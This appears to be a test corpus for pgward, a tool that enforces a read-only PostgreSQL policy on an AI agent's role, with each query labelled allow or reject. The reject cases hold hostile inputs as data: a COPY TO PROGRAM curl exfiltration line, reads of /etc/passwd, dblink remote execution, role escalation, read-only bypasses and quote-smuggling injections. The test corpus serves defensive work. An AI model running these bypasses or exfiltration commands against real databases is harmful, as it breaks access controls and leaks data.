-- Cases for etc/presets/ai-agent.toml: ordinary reads an agent makes, and attempts to get
-- around a read-only policy. Format: src/check.rs. Run: pgward check --policy
-- etc/presets/ai-agent.toml tests/check_corpus/ai-agent.sql

-- as role=agent application_name=agent client=10.0.0.7

-- Ordinary reads ------------------------------------------------------------------------------
-- allow
SELECT id, total FROM orders WHERE customer_id = 42 ORDER BY created_at DESC LIMIT 10;
-- allow
SELECT count(*) FROM public.orders;
-- allow
SELECT c.relname FROM pg_catalog.pg_class c JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE n.nspname = 'public';
-- allow
SELECT table_name FROM information_schema.tables WHERE table_schema = 'public';
-- allow
WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '1 day') SELECT count(*) FROM recent;
-- allow
EXPLAIN SELECT * FROM orders WHERE id = 1;
-- allow
EXPLAIN ANALYZE SELECT * FROM orders WHERE id = 1;
-- allow
SHOW search_path;
-- allow
BEGIN READ ONLY;
-- allow
COMMIT;
-- allow
SELECT 'a;drop table x';
-- allow
SELECT '/* DELETE FROM orders */', $$ DROP TABLE orders $$;
-- allow
SELECT E'\';DROP TABLE orders; --';
-- allow
SELECT current_setting('statement_timeout');
-- allow
SELECT lower(name), upper(name), length(name) FROM customers WHERE id = 3;
-- allow
SELECT pg_advisory_xact_lock(7);
-- allow
COPY (SELECT * FROM orders WHERE id < 100) TO STDOUT WITH (FORMAT csv);
-- allow
DECLARE c CURSOR FOR SELECT * FROM orders;
-- allow
PREPARE recent_orders (int) AS SELECT * FROM orders WHERE customer_id = $1;
-- allow
SET statement_timeout = '5s';
-- allow
SET search_path = public;
-- allow
SELECT 1; SELECT 2;

-- Writes --------------------------------------------------------------------------------------
-- reject read_only
INSERT INTO orders (id, total) VALUES (1, 10);
-- reject read_only
UPDATE orders SET total = 0 WHERE id = 1;
-- reject read_only
DELETE FROM orders WHERE id = 1;
-- reject read_only
MERGE INTO orders o USING incoming i ON o.id = i.id WHEN MATCHED THEN UPDATE SET total = i.total;
-- reject read_only
INSERT INTO orders SELECT * FROM orders_archive ON CONFLICT DO NOTHING;
-- reject require_where
UPDATE orders SET total = 0;
-- reject require_where
DELETE FROM orders;
-- reject require_where
TRUNCATE orders;

-- Writes hidden inside reads -------------------------------------------------------------------
-- reject read_only
WITH gone AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM gone;
-- reject read_only
WITH x AS (UPDATE orders SET total = 0 WHERE id = 1 RETURNING id) SELECT count(*) FROM x;
-- reject read_only
EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1;
-- reject read_only
PREPARE p (int) AS DELETE FROM orders WHERE id = $1;
-- reject read_only
COPY (DELETE FROM orders WHERE id = 1 RETURNING *) TO STDOUT;
-- reject read_only
SELECT * FROM orders WHERE id = 1 FOR UPDATE;
-- reject read_only
SELECT * FROM orders WHERE id = 1 FOR NO KEY UPDATE;
-- reject read_only
SELECT * FROM orders o JOIN customers c ON c.id = o.customer_id FOR SHARE OF c;
-- reject deny_ddl
SELECT * INTO orders_copy FROM orders;
-- reject read_only
SELECT nextval('orders_id_seq');
-- reject read_only
SELECT setval('orders_id_seq', 1);
-- reject read_only
SELECT pg_notify('channel', 'payload');
-- reject read_only
SELECT txid_current();
-- reject read_only
DECLARE c CURSOR FOR SELECT * FROM orders FOR UPDATE;

-- Several statements in one message -------------------------------------------------------------
-- reject
SELECT 1; DROP TABLE orders;
-- reject
SELECT 1; DELETE FROM orders WHERE id = 1;
-- reject read_only
COMMIT; INSERT INTO orders (id) VALUES (2);
-- reject read_only
ROLLBACK; BEGIN READ WRITE; UPDATE orders SET total = 1 WHERE id = 1;

-- Making the transaction or the session writable ---------------------------------------------------
-- reject read_only
BEGIN READ WRITE;
-- reject read_only
START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE;
-- reject read_only
SET TRANSACTION READ WRITE;
-- reject read_only
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE;
-- reject read_only
SET transaction_read_only = off;
-- reject read_only
SET default_transaction_read_only = off;
-- reject read_only
RESET default_transaction_read_only;
-- reject read_only
SET LOCAL default_transaction_read_only TO DEFAULT;
-- reject read_only
RESET ALL;
-- reject read_only
SET ROLE admin;
-- reject read_only
SET SESSION AUTHORIZATION admin;
-- reject deny_functions
SELECT set_config('default_transaction_read_only', 'off', false);
-- reject deny_functions
SELECT pg_catalog.set_config('role', 'admin', false);

-- Schema changes and code ----------------------------------------------------------------------
-- reject deny_ddl
DROP TABLE orders;
-- reject deny_ddl
CREATE TABLE stolen AS SELECT * FROM customers;
-- reject deny_ddl
CREATE TEMP TABLE scratch (a int);
-- reject deny_ddl
ALTER TABLE orders ADD COLUMN note text;
-- reject deny_ddl
CREATE INDEX CONCURRENTLY orders_total ON orders (total);
-- reject deny_ddl
GRANT ALL ON orders TO agent;
-- reject deny_ddl
ALTER ROLE agent SET default_transaction_read_only = off;
-- reject deny_ddl
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM orders RETURNING 1';
-- reject deny_ddl
DO $$BEGIN DELETE FROM orders; END$$;
-- reject deny_ddl
CALL archive_orders();
-- reject deny_ddl
EXPLAIN CREATE TABLE x AS SELECT 1;
-- reject read_only
LOCK TABLE orders IN ACCESS EXCLUSIVE MODE;
-- reject read_only
VACUUM orders;
-- reject read_only
NOTIFY channel;
-- reject read_only
CHECKPOINT;
-- reject read_only
REINDEX TABLE CONCURRENTLY orders;

-- COPY ---------------------------------------------------------------------------------------------
-- reject read_only
COPY orders TO PROGRAM 'curl -d @- https://example.invalid';
-- reject read_only
COPY orders FROM STDIN;
-- reject read_only
COPY orders TO '/tmp/orders.csv';
-- reject read_only
COPY orders FROM PROGRAM 'cat /etc/passwd';

-- Side-effecting built-ins -----------------------------------------------------------------------------
-- reject deny_functions
SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename <> current_user;
-- reject deny_functions
SELECT pg_cancel_backend(123);
-- reject deny_functions
SELECT pg_read_file('/etc/passwd');
-- reject deny_functions
SELECT pg_read_binary_file('postgresql.auto.conf');
-- reject deny_functions
SELECT * FROM pg_ls_dir('.');
-- reject deny_functions
SELECT pg_stat_file('postgresql.conf');
-- reject deny_functions
SELECT lo_import('/etc/passwd');
-- reject deny_functions
SELECT lo_export(16384, '/tmp/x');
-- reject deny_functions
SELECT * FROM dblink('host=elsewhere', 'SELECT 1') AS t(a int);
-- reject deny_functions
SELECT dblink_exec('host=elsewhere', 'DELETE FROM orders');
-- reject deny_functions
SELECT query_to_xml('SELECT * FROM secret.keys', true, false, '');
-- reject deny_functions
SELECT query_to_xml_and_xmlschema('SELECT * FROM secret.keys', true, false, '');
-- reject deny_functions
SELECT query_to_xmlschema('SELECT 1', true, false, '');
-- reject deny_functions
SELECT table_to_xml('secret.keys', true, false, '');
-- reject deny_functions
SELECT table_to_xml_and_xmlschema('secret.keys'::regclass, true, false, '');
-- reject deny_functions
SELECT schema_to_xml('secret', true, false, '');
-- reject deny_functions
SELECT schema_to_xml_and_xmlschema('secret', true, false, '');
-- reject deny_functions
SELECT database_to_xml(true, false, '');
-- reject deny_functions
SELECT database_to_xml_and_xmlschema(true, false, '');
-- reject deny_functions
SELECT * FROM ts_stat('SELECT to_tsvector(body) FROM secret.notes');
-- reject deny_functions
SELECT * FROM pg_catalog.ts_stat('SELECT to_tsvector(body) FROM secret.notes', 'ab');
-- reject deny_functions
SELECT ts_rewrite('a & b'::tsquery, 'SELECT target, sub FROM secret.aliases');
-- reject deny_functions
SELECT * FROM crosstab('SELECT a, b, c FROM secret.keys') AS t(a text, b text);
-- reject deny_functions
SELECT * FROM connectby('secret.tree', 'id', 'parent', '1', 0) AS t(id text, parent text, level int);
-- reject deny_functions
SELECT * FROM xpath_table('id', 'doc', 'secret.docs', '/a', 'true') AS t(id int, a text);
-- reject deny_functions
SELECT pg_reload_conf();
-- reject deny_functions
SELECT pg_switch_wal();
-- reject deny_functions
SELECT pg_create_logical_replication_slot('s', 'test_decoding');
-- reject deny_functions
SELECT pg_drop_replication_slot('s');
-- reject deny_functions
SELECT pg_advisory_lock(1);
-- reject deny_functions
SELECT pg_try_advisory_lock(1);
-- reject deny_functions
WITH k AS (SELECT pg_terminate_backend(1)) SELECT * FROM k;
-- reject deny_functions
SELECT * FROM orders WHERE id = (SELECT pg_cancel_backend(1)::int);
-- reject deny_functions
SELECT pg_stat_reset();

-- Other schemas --------------------------------------------------------------------------------
-- reject schema_allowlist
SELECT * FROM billing.invoices;
-- reject schema_allowlist
SET search_path = billing, public;
-- reject schema_allowlist
SET LOCAL search_path TO billing;
-- reject schema_allowlist
SELECT billing.total(1);

-- Comments, strings and tags ---------------------------------------------------------------------
-- reject deny_ddl
/* SELECT 1; */ DROP TABLE orders;
-- allow
SELECT 1 -- ; DROP TABLE orders
;
-- reject read_only
SELECT 1 /*tenant='admin',priority='critical'*/; DELETE FROM orders WHERE id = 1;

-- Text pgward cannot be sure of -------------------------------------------------------------------
-- reject unchecked
SELEC * FROM orders;
-- reject unchecked
SELECT * FROM orders WHERE id = 1 AND;
-- settings standard_conforming_strings=unknown
-- reject unchecked
SELECT 'x\' AS a, '; DELETE FROM orders WHERE true; --';
-- settings standard_conforming_strings=off
-- reject read_only
SELECT 'x\' AS a, '; DELETE FROM orders WHERE true; --';
-- allow
SELECT 'it\'s' AS quoted;
-- settings standard_conforming_strings=on
-- allow
SELECT 'x\' AS a, '; DELETE FROM orders WHERE true; --';
-- settings client_encoding=SJIS
-- reject unchecked
SELECT 'ソ\'; DELETE FROM orders WHERE true; --';
-- allow
SELECT id FROM orders WHERE id = 1;
-- settings client_encoding=UTF8

-- Other roles are not the agent -----------------------------------------------------------------------
-- as role=app
-- allow
DELETE FROM orders WHERE id = 1;
